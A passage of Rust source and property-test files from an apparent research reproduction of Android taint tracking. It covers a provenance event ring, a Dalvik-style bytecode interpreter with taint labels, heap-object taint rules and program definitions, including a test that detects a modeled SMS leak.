            result.hits.into_iter().map(|h| (h.seq, h.event)).collect();
        prop_assert_eq!(got, naive);
        prop_assert_eq!(
            result.stats.decoded + result.stats.skipped,
            result.stats.segments
        );
    }

    /// Ring iterator contracts: `events()` is exact-size through
    /// seal/evict cycles, and `iter_from(seq)` yields exactly the held
    /// suffix from `seq` on.
    #[test]
    fn ring_iterators_are_exact(
        cap in 1usize..24,
        seal_at in any::<u8>(),
        raw in collection::vec((any::<u8>(), any::<u32>(), any::<u32>()), 0..96),
    ) {
        let events = stream(&raw);
        let mut ring = Ring::new(cap);
        for (i, ev) in events.iter().enumerate() {
            ring.push(ev.clone());
            if i == seal_at as usize {
                ring.seal();
            }
        }
        let it = ring.events();
        prop_assert_eq!(it.len(), ring.len());
        let held: Vec<ProvEvent> = it.cloned().collect();
        prop_assert_eq!(held.len(), ring.len());

        let first = ring.first_seq();
        prop_assert_eq!(first, events.len() as u64 - ring.len() as u64);
        for seq in [0, first, first + ring.len() as u64 / 2, events.len() as u64 + 3] {
            let suffix: Vec<ProvEvent> = ring.iter_from(seq).cloned().collect();
            let skip = (seq.saturating_sub(first) as usize).min(held.len());
            prop_assert_eq!(ring.iter_from(seq).len(), held.len() - skip);
            prop_assert_eq!(suffix, held[skip..].to_vec());
        }
    }

    /// A zero-capacity tiered store degrades to the flat
    /// drop-everything behavior: nothing panics, nothing seals,
    /// counters stay exact.
    #[test]
    fn zero_capacity_tiered_store_never_panics(
        raw in collection::vec((any::<u8>(), any::<u32>(), any::<u32>()), 0..32),
    ) {
        let events = stream(&raw);
        let h = Handle::tiered(Level::Summary, 0);
        for ev in &events {
            h.emit(ev.clone());
        }
        prop_assert_eq!(h.recorded(), events.len() as u64);
        prop_assert_eq!(h.dropped(), events.len() as u64);
        prop_assert_eq!(h.segments(), 0usize);
        prop_assert!(h.snapshot().is_empty());
    }

    /// Fork continuity under the tiered backend: a fork carries the
    /// parent's exact events and counters (segments shared by
    /// refcount), then the two diverge independently.
    #[test]
    fn tiered_fork_shares_history_then_diverges(
        hot_cap in 1usize..8,
        raw in collection::vec((any::<u8>(), any::<u32>(), any::<u32>()), 1..64),
    ) {
        let events = stream(&raw);
        let parent = Handle::tiered(Level::Full, hot_cap);
        for ev in &events {
            parent.emit(ev.clone());
        }
        let child = parent.fork();
        prop_assert_eq!(child.snapshot(), parent.snapshot());
        prop_assert_eq!(child.recorded(), parent.recorded());
        parent.emit(event(0, 0x1, 0));
        child.emit(event(6, 0x2, 1));
        prop_assert_eq!(parent.recorded(), events.len() as u64 + 1);
        prop_assert_eq!(child.recorded(), events.len() as u64 + 1);
        let pv = parent.snapshot();
        let cv = child.snapshot();
        prop_assert_eq!(&pv[..events.len()], &cv[..events.len()]);
        prop_assert_ne!(&pv[events.len()], &cv[events.len()]);
    }
}
