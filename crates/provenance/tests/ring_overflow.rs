//! Ring-overflow property tests: under random capacities and push
//! sequences the bounded ring must (1) keep its drop counter exact —
//! `dropped == max(0, pushes - cap)` — (2) evict strictly oldest
//! first, so the surviving window is exactly the tail of the pushed
//! sequence in order, and (3) never panic, including at capacity
//! zero. Failures replay with `TESTKIT_SEED`.

use ndroid_provenance::{FlowGraph, Handle, Level, ProvEvent, Ring};
use ndroid_testkit::prelude::*;

/// A numbered event whose identity survives the ring: the push index
/// is encoded in the api string and the label carries `sel`-derived
/// bits so graph building downstream sees varied labels.
fn numbered(i: usize, bits: u32) -> ProvEvent {
    ProvEvent::Source {
        label: bits,
        api: format!("src-{i}"),
    }
}

proptest! {
    #[test]
    fn drop_counter_is_exact_and_eviction_is_oldest_first(
        cap in 0usize..24,
        labels in collection::vec(any::<u32>(), 0..96),
    ) {
        let mut ring = Ring::new(cap);
        for (i, &bits) in labels.iter().enumerate() {
            ring.push(numbered(i, bits));
        }
        let pushes = labels.len();
        prop_assert_eq!(ring.recorded(), pushes as u64);
        prop_assert_eq!(ring.dropped(), pushes.saturating_sub(cap) as u64);
        prop_assert_eq!(ring.len(), pushes.min(cap));
        // The survivors are exactly the last `min(pushes, cap)`
        // events, in push order.
        let first_kept = pushes - pushes.min(cap);
        let held: Vec<ProvEvent> = ring.events().cloned().collect();
        let expected: Vec<ProvEvent> = (first_kept..pushes)
            .map(|i| numbered(i, labels[i]))
            .collect();
        prop_assert_eq!(held, expected);
    }

    /// The same invariants through the shared [`Handle`] front-end,
    /// plus: the graph fingerprint over the snapshot depends only on
    /// the surviving window, so two handles fed the same tail agree.
    #[test]
    fn handle_snapshot_is_the_surviving_window(
        cap in 1usize..16,
        labels in collection::vec(1u32..0x1000, 1..64),
    ) {
        let full = Handle::with_capacity(Level::Full, cap);
        for (i, &bits) in labels.iter().enumerate() {
            full.emit(numbered(i, bits));
        }
        let pushes = labels.len();
        prop_assert_eq!(full.recorded(), pushes as u64);
        prop_assert_eq!(full.dropped(), pushes.saturating_sub(cap) as u64);

        // Feed only the surviving tail to a fresh handle: identical
        // snapshot, identical fingerprint.
        let first_kept = pushes - pushes.min(cap);
        let tail_only = Handle::with_capacity(Level::Full, cap);
        for i in first_kept..pushes {
            tail_only.emit(numbered(i, labels[i]));
        }
        prop_assert_eq!(full.snapshot(), tail_only.snapshot());
        prop_assert_eq!(
            FlowGraph::build(&full.snapshot()).fingerprint(),
            FlowGraph::build(&tail_only.snapshot()).fingerprint()
        );
    }

    /// Capacity zero is a legal configuration: everything is refused
    /// and counted, nothing panics, and the summary stays coherent.
    #[test]
    fn zero_capacity_drops_everything_without_panicking(
        labels in collection::vec(any::<u32>(), 0..32),
    ) {
        let h = Handle::with_capacity(Level::Summary, 0);
        for (i, &bits) in labels.iter().enumerate() {
            h.emit(numbered(i, bits));
        }
        prop_assert_eq!(h.recorded(), labels.len() as u64);
        prop_assert_eq!(h.dropped(), labels.len() as u64);
        prop_assert!(h.snapshot().is_empty());
        let s = h.summary().expect("Summary level always digests");
        prop_assert_eq!(s.recorded, labels.len() as u64);
        prop_assert_eq!(s.dropped, labels.len() as u64);
        prop_assert_eq!(s.leak_paths, 0usize);
    }
}
