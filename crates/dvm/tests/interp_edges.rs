//! Edge-case tests of the bytecode interpreter: error paths, the less
//! common instructions, and the framework intrinsics.

use ndroid_dvm::bytecode::{BinOp, CmpOp, DexInsn};
use ndroid_dvm::framework::install_framework;
use ndroid_dvm::interp::NoNatives;
use ndroid_dvm::{
    ArrayKind, ClassDef, Dvm, DvmError, InvokeKind, MethodDef, MethodId, MethodKind, Program,
    Taint,
};

fn vm(build: impl FnOnce(&mut Program) -> MethodId) -> (Dvm, MethodId) {
    let mut p = Program::new();
    install_framework(&mut p);
    let m = build(&mut p);
    (Dvm::new(p), m)
}

fn main_method(p: &mut Program, code: Vec<DexInsn>, regs: u16) -> MethodId {
    let c = p.add_class(ClassDef {
        name: "Lt/Main;".into(),
        ..ClassDef::default()
    });
    p.add_method(
        c,
        MethodDef::new("main", "I", MethodKind::Bytecode(code)).with_registers(regs),
    )
}

#[test]
fn neg_preserves_taint() {
    let (mut dvm, m) = vm(|p| {
        let c = p.add_class(ClassDef {
            name: "Lt/N;".into(),
            ..ClassDef::default()
        });
        p.add_method(
            c,
            MethodDef::new(
                "f",
                "II",
                MethodKind::Bytecode(vec![
                    DexInsn::Neg { dst: 0, src: 0 },
                    DexInsn::Return { src: 0 },
                ]),
            ),
        )
    });
    let (v, t) = dvm
        .invoke_with(m, &[(5, Taint::SMS)], &mut NoNatives)
        .unwrap();
    assert_eq!(v as i32, -5);
    assert_eq!(t, Taint::SMS);
}

#[test]
fn array_length_on_string_and_array() {
    let (mut dvm, m) = vm(|p| {
        main_method(
            p,
            vec![
                DexInsn::Const { dst: 0, value: 4 },
                DexInsn::NewArray {
                    dst: 1,
                    size: 0,
                    kind: ArrayKind::Primitive,
                },
                DexInsn::ArrayLength { dst: 0, arr: 1 },
                DexInsn::Return { src: 0 },
            ],
            2,
        )
    });
    let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
    assert_eq!(v, 4);

    // Strings have a length too.
    let s = dvm.new_string("hello", Taint::CLEAR);
    let (mut dvm2, m2) = vm(|p| {
        main_method(
            p,
            vec![
                DexInsn::ArrayLength { dst: 0, arr: 1 },
                DexInsn::Return { src: 0 },
            ],
            2,
        )
    });
    let s2 = dvm2.new_string("hello", Taint::CLEAR);
    let (v, _) = dvm2
        .invoke_with(m2, &[(s2, Taint::CLEAR)], &mut NoNatives)
        .unwrap();
    assert_eq!(v, 5);
    let _ = s;
}

#[test]
fn if_test_two_registers() {
    let (mut dvm, m) = vm(|p| {
        main_method(
            p,
            vec![
                DexInsn::IfTest {
                    op: CmpOp::Lt,
                    a: 0,
                    b: 1,
                    target: 3,
                },
                DexInsn::Const { dst: 2, value: 0 },
                DexInsn::Return { src: 2 },
                DexInsn::Const { dst: 2, value: 1 },
                DexInsn::Return { src: 2 },
            ],
            3,
        )
    });
    // main has 3 regs, 0 ins — set args via a wrapper? Registers default
    // to 0: 0 < 0 is false → returns 0.
    let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
    assert_eq!(v, 0);
}

#[test]
fn bad_register_is_an_error() {
    let (mut dvm, m) = vm(|p| {
        main_method(
            p,
            vec![DexInsn::Const { dst: 9, value: 1 }, DexInsn::ReturnVoid],
            2,
        )
    });
    assert_eq!(
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err(),
        DvmError::BadRegister(9)
    );
    assert_eq!(dvm.stack.depth(), 0, "frame still unwound");
}

#[test]
fn bad_branch_target_is_an_error() {
    let (mut dvm, m) = vm(|p| {
        main_method(p, vec![DexInsn::Goto { target: 99 }], 1)
    });
    assert!(matches!(
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err(),
        DvmError::BadBranchTarget(_)
    ));
}

#[test]
fn aget_on_non_array_is_an_error() {
    let (mut dvm, m) = vm(|p| {
        main_method(
            p,
            vec![
                DexInsn::Const { dst: 1, value: 0 },
                DexInsn::ArrayGet {
                    dst: 0,
                    arr: 2,
                    idx: 1,
                },
                DexInsn::Return { src: 0 },
            ],
            3,
        )
    });
    // Register 2 holds 0 (null).
    assert!(matches!(
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err(),
        DvmError::NotAReference { .. }
    ));
}

#[test]
fn index_out_of_bounds() {
    let (mut dvm, m) = vm(|p| {
        main_method(
            p,
            vec![
                DexInsn::Const { dst: 0, value: 2 },
                DexInsn::NewArray {
                    dst: 1,
                    size: 0,
                    kind: ArrayKind::Primitive,
                },
                DexInsn::Const { dst: 2, value: 5 },
                DexInsn::ArrayGet {
                    dst: 0,
                    arr: 1,
                    idx: 2,
                },
                DexInsn::Return { src: 0 },
            ],
            3,
        )
    });
    assert!(matches!(
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err(),
        DvmError::IndexOutOfBounds { index: 5, len: 2 }
    ));
}

#[test]
fn move_exception_without_pending_errors() {
    let (mut dvm, m) = vm(|p| {
        main_method(p, vec![DexInsn::MoveException { dst: 0 }, DexInsn::ReturnVoid], 1)
    });
    assert!(dvm.invoke_with(m, &[], &mut NoNatives).is_err());
}

#[test]
fn string_intrinsics_via_invoke() {
    let (mut dvm, m) = vm(|p| {
        let length = p
            .find_method_by_name("Ljava/lang/String;", "length")
            .unwrap();
        let value_of = p
            .find_method_by_name("Ljava/lang/String;", "valueOf")
            .unwrap();
        main_method(
            p,
            vec![
                DexInsn::Const { dst: 0, value: 1234 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: value_of,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: length,
                    args: vec![1],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Return { src: 0 },
            ],
            2,
        )
    });
    let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
    assert_eq!(v, 4, "valueOf(1234).length() == 4");
}

#[test]
fn sms_send_sink_records_number_and_text() {
    let (mut dvm, m) = vm(|p| {
        let sms = p
            .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
            .unwrap();
        let send = p
            .find_method_by_name("Landroid/telephony/SmsManager;", "sendTextMessage")
            .unwrap();
        let number = p.intern("+15550001111");
        main_method(
            p,
            vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: number },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![1, 0],
                },
                DexInsn::Const { dst: 0, value: 0 },
                DexInsn::Return { src: 0 },
            ],
            2,
        )
    });
    dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
    let leaks: Vec<_> = dvm.leaks().collect();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].sink, "SmsManager.sendTextMessage");
    assert_eq!(leaks[0].dest, "+15550001111");
    assert!(leaks[0].taint.contains(Taint::SMS));
}

#[test]
fn const_string_interning_distinct_objects() {
    let (mut dvm, m) = vm(|p| {
        let idx = p.intern("same");
        main_method(
            p,
            vec![
                DexInsn::ConstString { dst: 0, index: idx },
                DexInsn::ConstString { dst: 1, index: idx },
                // Compare references: they are distinct heap objects
                // (the mini-DVM does not pool runtime strings).
                DexInsn::BinOp {
                    op: BinOp::Sub,
                    dst: 2,
                    a: 0,
                    b: 1,
                },
                DexInsn::Return { src: 2 },
            ],
            3,
        )
    });
    let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
    assert_ne!(v, 0, "distinct allocations");
}

#[test]
fn fuel_is_shared_across_nested_invokes() {
    let (mut dvm, m) = vm(|p| {
        let c = p.add_class(ClassDef {
            name: "Lt/R;".into(),
            ..ClassDef::default()
        });
        // Infinite mutual recursion through one self-call.
        let f = p.add_method(
            c,
            MethodDef::new("f", "I", MethodKind::Bytecode(vec![])).with_registers(1),
        );
        // Patch the body after knowing the id (self-reference).
        let body = vec![
            DexInsn::Invoke {
                kind: InvokeKind::Static,
                method: f,
                args: vec![],
            },
            DexInsn::Const { dst: 0, value: 0 },
            DexInsn::Return { src: 0 },
        ];
        // Re-add with a real body (new method id used as entry).
        p.add_method(
            c,
            MethodDef::new("g", "I", MethodKind::Bytecode(body)).with_registers(1),
        )
    });
    dvm.fuel = 10_000;
    let err = dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err();
    // Either fuel runs out in the callee chain or (here) `f` has an
    // empty body — which is a bad branch target.
    assert!(matches!(
        err,
        DvmError::OutOfFuel | DvmError::BadBranchTarget(_)
    ));
}
