//! Property-based tests of the DVM substrates: the TaintDroid stack,
//! the moving heap, and the indirect-reference table.

use ndroid_dvm::stack::DvmStack;
use ndroid_dvm::{Heap, IndirectRefKind, IndirectRefTable, MethodId, ObjectId, Taint};
use ndroid_testkit::prelude::*;

proptest! {
    /// Interleaved value/taint slots never interfere: for any set of
    /// writes, each register reads back exactly what was written.
    #[test]
    fn stack_slots_are_independent(
        regs in 1u16..32,
        writes in collection::vec((0u16..32, any::<u32>(), any::<u32>()), 0..64)
    ) {
        let mut s = DvmStack::new();
        s.push_frame(MethodId(0), regs, &[]).unwrap();
        let mut model = vec![(0u32, Taint::CLEAR); regs as usize];
        for (reg, value, taint_bits) in writes {
            let reg = reg % regs;
            let t = Taint(taint_bits);
            s.set(reg, value, t).unwrap();
            model[reg as usize] = (value, t);
        }
        for (i, (value, taint)) in model.iter().enumerate() {
            prop_assert_eq!(s.reg(i as u16).unwrap(), *value);
            prop_assert_eq!(s.taint(i as u16).unwrap(), *taint);
        }
    }

    /// Pushing and popping arbitrary frame stacks always restores the
    /// caller's registers bit-for-bit.
    #[test]
    fn frames_nest_arbitrarily(sizes in collection::vec(1u16..16, 1..12)) {
        let mut s = DvmStack::new();
        let mut saved: Vec<(u16, u32)> = Vec::new();
        for (i, regs) in sizes.iter().enumerate() {
            s.push_frame(MethodId(i as u32), *regs, &[]).unwrap();
            let marker = 0xA000_0000 | i as u32;
            s.set(0, marker, Taint(i as u32)).unwrap();
            saved.push((*regs, marker));
        }
        for (i, (_regs, marker)) in saved.iter().enumerate().rev() {
            prop_assert_eq!(s.current_method(), MethodId(i as u32));
            prop_assert_eq!(s.reg(0).unwrap(), *marker);
            prop_assert_eq!(s.taint(0).unwrap(), Taint(i as u32));
            s.pop_frame();
        }
        prop_assert_eq!(s.depth(), 0);
    }

    /// Heap compaction preserves every object's contents and taint, and
    /// always assigns fresh, unique addresses.
    #[test]
    fn compaction_preserves_objects(
        strings in collection::vec((any::<String>(), any::<u32>()), 1..24),
        cycles in 1u32..5
    ) {
        let mut h = Heap::new();
        let ids: Vec<ObjectId> = strings
            .iter()
            .map(|(s, t)| h.alloc_string(s.clone(), Taint(*t)))
            .collect();
        for _ in 0..cycles {
            h.compact();
        }
        let mut seen = std::collections::HashSet::new();
        for (id, (s, t)) in ids.iter().zip(strings.iter()) {
            let (text, taint) = h.string(*id).unwrap();
            prop_assert_eq!(text, s.as_str());
            prop_assert_eq!(taint, Taint(*t));
            let addr = h.direct_addr(*id).unwrap();
            prop_assert!(seen.insert(addr), "addresses stay unique");
            prop_assert_eq!(h.at_addr(addr), Some(*id));
        }
    }

    /// Indirect references: decode returns exactly the registered
    /// object until deleted, and never resolves after deletion even if
    /// the slot is reused.
    #[test]
    fn indirect_refs_are_stable_and_safe(ops in collection::vec(any::<bool>(), 1..64)) {
        let mut t = IndirectRefTable::new();
        let mut live: Vec<(ndroid_dvm::IndirectRef, ObjectId)> = Vec::new();
        let mut dead: Vec<ndroid_dvm::IndirectRef> = Vec::new();
        let mut next_obj = 0u32;
        for add in ops {
            if add || live.is_empty() {
                let obj = ObjectId(next_obj);
                next_obj += 1;
                let kind = if next_obj.is_multiple_of(2) {
                    IndirectRefKind::Local
                } else {
                    IndirectRefKind::Global
                };
                live.push((t.add(kind, obj), obj));
            } else {
                let (r, _) = live.swap_remove(0);
                t.delete(r).unwrap();
                dead.push(r);
            }
            for (r, obj) in &live {
                prop_assert_eq!(t.decode(*r).unwrap(), *obj);
            }
            for r in &dead {
                prop_assert!(t.decode(*r).is_err(), "stale ref must not resolve");
            }
        }
        prop_assert_eq!(t.len(), live.len());
    }

    /// Taint union is commutative, associative and idempotent over
    /// arbitrary labels (the lattice the whole system relies on).
    #[test]
    fn taint_union_is_a_semilattice(a in any::<u32>(), b in any::<u32>(), c in any::<u32>()) {
        let (a, b, c) = (Taint(a), Taint(b), Taint(c));
        prop_assert_eq!(a | b, b | a);
        prop_assert_eq!((a | b) | c, a | (b | c));
        prop_assert_eq!(a | a, a);
        prop_assert!((a | b).contains(a));
        prop_assert!((a | b).contains(b));
    }
}
