//! Heap object representations with TaintDroid's taint-storage rules.
//!
//! "For ArrayObject and StringObject that is actually an array of chars,
//! TaintDroid sets a taint label in the array object. For class static
//! field and class instance field, the taint labels are stored
//! interleaved with variables in Class's or Object's instance data
//! area." (§II-B)

use crate::class::ClassId;
use crate::taint::Taint;

/// Element kind of an [`HeapObject::Array`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ArrayKind {
    /// `int[]`, `float[]`, etc. — any 32-bit primitive.
    Primitive,
    /// `byte[]` / `char[]` stored one element per slot.
    Byte,
    /// Object reference elements.
    Object,
}

/// One object in the managed heap.
#[derive(Debug, Clone)]
pub enum HeapObject {
    /// A `java.lang.String`: a char array with a single taint label.
    String {
        /// UTF-8 contents (the reproduction stores text, not UTF-16).
        value: String,
        /// The object-level taint label.
        taint: Taint,
    },
    /// An array with one label covering all elements (TaintDroid's
    /// array policy).
    Array {
        /// Element kind.
        kind: ArrayKind,
        /// Elements, one 32-bit slot each.
        data: Vec<u32>,
        /// The single array-level taint label.
        taint: Taint,
    },
    /// A class instance: field values interleaved with per-field labels.
    Instance {
        /// The instance's class.
        class: ClassId,
        /// Instance data area: `fields[i]` paired with `taints[i]`,
        /// modeling the interleaved layout.
        fields: Vec<u32>,
        /// Per-field taint labels.
        taints: Vec<Taint>,
    },
    /// A `java.lang.Throwable` carrying a message string reference.
    Exception {
        /// Exception class name (e.g. `Ljava/lang/RuntimeException;`).
        class_name: String,
        /// Reference (object id + 1) of the message string, 0 if none.
        message: u32,
    },
}

impl HeapObject {
    /// A short human-readable kind name (for logs and errors).
    pub fn kind_name(&self) -> &'static str {
        match self {
            HeapObject::String { .. } => "StringObject",
            HeapObject::Array { .. } => "ArrayObject",
            HeapObject::Instance { .. } => "Object",
            HeapObject::Exception { .. } => "Exception",
        }
    }

    /// The object-level taint: the label of a string/array, or the
    /// union of field labels for an instance.
    pub fn overall_taint(&self) -> Taint {
        match self {
            HeapObject::String { taint, .. } | HeapObject::Array { taint, .. } => *taint,
            HeapObject::Instance { taints, .. } => taints
                .iter()
                .fold(Taint::CLEAR, |acc, t| acc.union(*t)),
            HeapObject::Exception { .. } => Taint::CLEAR,
        }
    }

    /// Adds taint to the object-level label (string/array) or to every
    /// field of an instance.
    pub fn add_taint(&mut self, extra: Taint) {
        match self {
            HeapObject::String { taint, .. } | HeapObject::Array { taint, .. } => {
                *taint |= extra;
            }
            HeapObject::Instance { taints, .. } => {
                for t in taints {
                    *t |= extra;
                }
            }
            HeapObject::Exception { .. } => {}
        }
    }

    /// Approximate heap footprint in bytes (for allocator accounting).
    pub fn size_bytes(&self) -> usize {
        match self {
            HeapObject::String { value, .. } => 16 + value.len(),
            HeapObject::Array { data, .. } => 16 + 4 * data.len(),
            HeapObject::Instance { fields, .. } => 16 + 8 * fields.len(),
            HeapObject::Exception { class_name, .. } => 16 + class_name.len(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_taint_is_object_level() {
        let mut s = HeapObject::String {
            value: "imei-356938035643809".into(),
            taint: Taint::IMEI,
        };
        assert_eq!(s.overall_taint(), Taint::IMEI);
        s.add_taint(Taint::SMS);
        assert_eq!(s.overall_taint(), Taint::IMEI | Taint::SMS);
        assert_eq!(s.kind_name(), "StringObject");
    }

    #[test]
    fn array_has_single_label() {
        // TaintDroid keeps ONE label for the whole array.
        let mut a = HeapObject::Array {
            kind: ArrayKind::Primitive,
            data: vec![1, 2, 3],
            taint: Taint::CLEAR,
        };
        a.add_taint(Taint::CONTACTS);
        assert_eq!(a.overall_taint(), Taint::CONTACTS);
    }

    #[test]
    fn instance_fields_have_interleaved_labels() {
        let mut obj = HeapObject::Instance {
            class: ClassId(0),
            fields: vec![10, 20],
            taints: vec![Taint::CLEAR, Taint::PHONE_NUMBER],
        };
        assert_eq!(obj.overall_taint(), Taint::PHONE_NUMBER);
        obj.add_taint(Taint::SMS);
        match &obj {
            HeapObject::Instance { taints, .. } => {
                assert!(taints[0].contains(Taint::SMS));
                assert!(taints[1].contains(Taint::PHONE_NUMBER));
            }
            _ => unreachable!(),
        }
    }

    #[test]
    fn sizes_scale_with_content() {
        let small = HeapObject::Array {
            kind: ArrayKind::Byte,
            data: vec![0; 4],
            taint: Taint::CLEAR,
        };
        let big = HeapObject::Array {
            kind: ArrayKind::Byte,
            data: vec![0; 400],
            taint: Taint::CLEAR,
        };
        assert!(big.size_bytes() > small.size_bytes());
    }
}
