//! Class, field and method definitions, and the loaded [`Program`].

use crate::bytecode::DexInsn;
use crate::error::DvmError;
use crate::framework::Intrinsic;
use std::collections::HashMap;
use std::rc::Rc;

/// Index of a class in the [`Program`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ClassId(pub u32);

/// Index of a method in the [`Program`]'s flat method table.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct MethodId(pub u32);

/// A field position within its class (instance or static).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FieldId {
    /// The owning class.
    pub class: ClassId,
    /// Index into the class's field list.
    pub index: u16,
    /// Whether this is a static field.
    pub is_static: bool,
}

/// A field definition.
#[derive(Debug, Clone)]
pub struct FieldDef {
    /// Field name.
    pub name: String,
    /// Whether the field holds an object reference.
    pub is_reference: bool,
}

/// How a method executes.
#[derive(Debug, Clone)]
pub enum MethodKind {
    /// Interpreted Dalvik bytecode.
    Bytecode(Vec<DexInsn>),
    /// A JNI native method: `entry` is the first-instruction address of
    /// the registered native function in guest memory (the paper's
    /// `method_address` / `insnAddr`).
    Native {
        /// Guest address of the native implementation.
        entry: u32,
    },
    /// A modeled Android-framework method (sources, sinks, helpers).
    Intrinsic(Intrinsic),
}

/// A method definition.
#[derive(Debug, Clone)]
pub struct MethodDef {
    /// Method name.
    pub name: String,
    /// Dalvik shorty: return type then parameter types, e.g. `"IILL"`
    /// (the paper logs shorties like `IILLLLLLLLII`).
    pub shorty: String,
    /// Number of registers in the method frame (`registers_size`).
    pub registers_size: u16,
    /// Number of argument registers (`ins_size`). For non-static
    /// methods the first "in" is `this`.
    pub ins_size: u16,
    /// Static method? (Affects the JNI access flag and `this`.)
    pub is_static: bool,
    /// The body.
    pub kind: MethodKind,
    /// Instruction index of a catch-all handler: when an exception
    /// unwinds into this method it resumes there (the thrown object is
    /// fetched with `move-exception`). `None` = exceptions propagate.
    pub catch_all: Option<u32>,
}

impl MethodDef {
    /// A method with the given body; `registers_size`/`ins_size` default
    /// to the shorty's parameter count and can be adjusted with
    /// [`with_registers`](MethodDef::with_registers).
    pub fn new(name: impl Into<String>, shorty: impl Into<String>, kind: MethodKind) -> MethodDef {
        let shorty = shorty.into();
        let ins = shorty.len().saturating_sub(1) as u16;
        MethodDef {
            name: name.into(),
            shorty,
            registers_size: ins,
            ins_size: ins,
            is_static: true,
            kind,
            catch_all: None,
        }
    }

    /// Sets `registers_size` (must be ≥ `ins_size`).
    #[must_use]
    pub fn with_registers(mut self, registers_size: u16) -> MethodDef {
        assert!(registers_size >= self.ins_size);
        self.registers_size = registers_size;
        self
    }

    /// Marks the method non-static: the first in-register becomes
    /// `this`, growing `ins_size` (call before
    /// [`with_registers`](MethodDef::with_registers)).
    #[must_use]
    pub fn virtual_method(mut self) -> MethodDef {
        self.is_static = false;
        self.ins_size += 1;
        self.registers_size = self.registers_size.max(self.ins_size);
        self
    }

    /// Installs a catch-all handler at instruction index `target`.
    #[must_use]
    pub fn with_catch_all(mut self, target: u32) -> MethodDef {
        self.catch_all = Some(target);
        self
    }
    /// The Dalvik access-flag word (only `ACC_STATIC` is modeled, plus
    /// `ACC_PUBLIC` so flags look like the paper's `0x1`/`0x9`).
    pub fn access_flags(&self) -> u32 {
        const ACC_PUBLIC: u32 = 0x1;
        const ACC_STATIC: u32 = 0x8;
        if self.is_static {
            ACC_PUBLIC | ACC_STATIC
        } else {
            ACC_PUBLIC
        }
    }

    /// Whether the method returns `void` (shorty begins with `V`).
    pub fn returns_void(&self) -> bool {
        self.shorty.starts_with('V')
    }

    /// Whether the method returns an object reference.
    pub fn returns_reference(&self) -> bool {
        self.shorty.starts_with('L')
    }
}

/// A class definition.
#[derive(Debug, Clone, Default)]
pub struct ClassDef {
    /// JVM-style internal name, e.g. `Lcom/tencent/tccsync/LoginUtil;`.
    pub name: String,
    /// Instance fields.
    pub instance_fields: Vec<FieldDef>,
    /// Static fields.
    pub static_fields: Vec<FieldDef>,
    /// Method ids owned by this class (into the program method table).
    pub methods: Vec<MethodId>,
}

/// A loaded application: classes, a flat method table, static-field
/// storage, and interned strings.
///
/// The class and method tables — by far the bulk of a loaded program,
/// and immutable once the app is assembled — sit behind `Rc` so that
/// cloning a `Program` (snapshot fan-out forks one per scenario) is a
/// couple of refcount bumps plus the small mutable parts: static-field
/// storage (written at runtime by `SPut`) and the interned-string and
/// class-name tables. The rare post-clone structural mutation (e.g. a
/// test interning a new string constant) privatizes via `Rc::make_mut`.
#[derive(Debug, Default, Clone)]
pub struct Program {
    classes: Rc<Vec<ClassDef>>,
    methods: Rc<Vec<(ClassId, MethodDef)>>,
    class_by_name: Rc<HashMap<String, ClassId>>,
    /// Static field values, per class, paired with their taint labels
    /// (interleaved storage per TaintDroid §II-B).
    pub statics: Vec<Vec<(u32, crate::taint::Taint)>>,
    /// Interned string constants referenced by `ConstString`.
    pub strings: Vec<String>,
}

impl Program {
    /// An empty program.
    pub fn new() -> Program {
        Program::default()
    }

    /// Registers a class, returning its id.
    ///
    /// # Panics
    ///
    /// Panics if a class with the same name already exists.
    pub fn add_class(&mut self, def: ClassDef) -> ClassId {
        assert!(
            !self.class_by_name.contains_key(&def.name),
            "duplicate class {}",
            def.name
        );
        let id = ClassId(self.classes.len() as u32);
        Rc::make_mut(&mut self.class_by_name).insert(def.name.clone(), id);
        self.statics
            .push(vec![(0, crate::taint::Taint::CLEAR); def.static_fields.len()]);
        Rc::make_mut(&mut self.classes).push(def);
        id
    }

    /// Adds a method to `class`, returning its id.
    pub fn add_method(&mut self, class: ClassId, def: MethodDef) -> MethodId {
        let id = MethodId(self.methods.len() as u32);
        Rc::make_mut(&mut self.methods).push((class, def));
        Rc::make_mut(&mut self.classes)[class.0 as usize].methods.push(id);
        id
    }

    /// Interns a string constant, returning its index.
    pub fn intern(&mut self, s: impl Into<String>) -> u32 {
        let s = s.into();
        if let Some(i) = self.strings.iter().position(|x| *x == s) {
            return i as u32;
        }
        self.strings.push(s);
        (self.strings.len() - 1) as u32
    }

    /// Looks up a class by internal name.
    ///
    /// # Errors
    ///
    /// [`DvmError::NoSuchClass`] if absent.
    pub fn find_class(&self, name: &str) -> Result<ClassId, DvmError> {
        self.class_by_name
            .get(name)
            .copied()
            .ok_or_else(|| DvmError::NoSuchClass(name.to_string()))
    }

    /// The class definition for `id`.
    pub fn class(&self, id: ClassId) -> &ClassDef {
        &self.classes[id.0 as usize]
    }

    /// Number of classes.
    pub fn class_count(&self) -> usize {
        self.classes.len()
    }

    /// All method ids, in definition order.
